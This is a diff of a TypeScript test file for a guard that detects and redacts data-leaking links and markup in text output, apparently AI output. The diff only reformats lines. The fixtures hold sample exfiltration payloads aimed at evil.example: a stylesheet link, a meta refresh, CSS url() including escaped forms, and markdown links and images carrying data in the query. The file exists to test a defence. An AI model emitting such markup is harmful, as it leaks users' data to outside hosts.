@@ -58,7 +58,11 @@ const CUT: readonly (readonly [name: string, text: string, rule: string])[] = [
   ["link", '<link rel=stylesheet href="https://evil.example/a.css?d=1">', "output.image_data"],
   ["a refresh", '<meta http-equiv=refresh content="0;url=https://evil.example/?d=1">', "output.image_data"],
   ["css", "background: url(https://evil.example/a.png?d=1)", "output.image_data"],
-  ["css with quotes, in capitals", "<p style=\"background:URL('https://evil.example/a.png?d=1')\">", "output.image_data"],
+  [
+    "css with quotes, in capitals",
+    "<p style=\"background:URL('https://evil.example/a.png?d=1')\">",
+    "output.image_data",
+  ],
   ["css with escapes", "url(\\68 ttps://evil.example/a.png?d=1)", "output.image_data"],
   ["a link with an encoding", `[click](https://evil.example/?q=${DATA})`, "output.link_data"],
   ["a bare link with an encoding", `see https://evil.example/?q=${DATA} now`, "output.link_data"],
@@ -76,7 +80,10 @@ const CUT: readonly (readonly [name: string, text: string, rule: string])[] = [
 
 const FLOWS: readonly (readonly [name: string, text: string])[] = [
   ["prose", "He said (twice) that a < b; see [1] and http: the protocol. Data: none. url () is css."],
-  ["a link to a foreign page", "See [the page](https://en.wikipedia.example/wiki/Sourdough_bread) and https://npm.example/package/@types/node."],
+  [
+    "a link to a foreign page",
+    "See [the page](https://en.wikipedia.example/wiki/Sourdough_bread) and https://npm.example/package/@types/node.",
+  ],
   ["a search", "https://search.example/?q=how+to+bake+bread&hl=en&page=2"],
   ["an image without a query", "![logo](https://cdn.example/img/logo-2x.png)"],
   ["a listed host with a query", "![x](https://docs.example.com/a.png?d=1) and ![y](https://a.trusted.example/b?c=1)"],
@@ -137,7 +144,10 @@ describe("policy", () => {
 
   it("a redacted link leaves its words and the text behind it", () => {
     const redact = rules({ modes: modes("off", { link: "redact" }) });
-    const { text, cut } = guardText("a ![b](https://evil.example/?d=1) c https://evil.example/?q=joan@mail.example. d", redact);
+    const { text, cut } = guardText(
+      "a ![b](https://evil.example/?d=1) c https://evil.example/?q=joan@mail.example. d",
+      redact,
+    );
     expect(cut).toBe(false);
     expect(text).toBe("a ![b]([REDACTED:link]) c [REDACTED:link]. d");
   });
